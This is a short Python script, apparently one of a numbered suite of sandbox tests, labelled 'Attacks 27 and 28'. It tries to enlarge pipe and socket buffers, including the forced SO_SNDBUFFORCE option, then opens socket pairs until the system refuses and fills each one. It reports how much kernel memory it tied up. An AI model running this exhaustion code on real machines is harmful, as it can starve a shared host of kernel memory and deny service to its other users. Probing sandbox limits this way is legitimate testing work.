"""Attacks 27 and 28: the kernel's memory by way of pipes and sockets: many, enlarged and filled."""

import fcntl
import os
import socket

from attacker import outcome, play_after

F_SETPIPE_SZ = 1031
SO_SNDBUFFORCE = 32
HUGE = 1 << 30


def fill(end):
    total = 0
    try:
        while True:
            total += end.send(b"x" * 65536)
    except BlockingIOError:
        return total


def attack():
    ends = os.pipe()
    pair = socket.socketpair()[0]
    found = {
        "enlarged pipe": outcome(lambda: fcntl.fcntl(ends[1], F_SETPIPE_SZ, 1 << 20)),
        "enlarged socket": outcome(lambda: pair.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, HUGE)),
        "forced": outcome(lambda: pair.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, HUGE)),
    }
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
    except OSError:
        pass
    for end in (end for pair in pairs for end in pair):
        end.setblocking(False)
    return {**found, "pairs": len(pairs), "MiB": sum(fill(end) for pair in pairs for end in pair) >> 20}


play_after(attack)
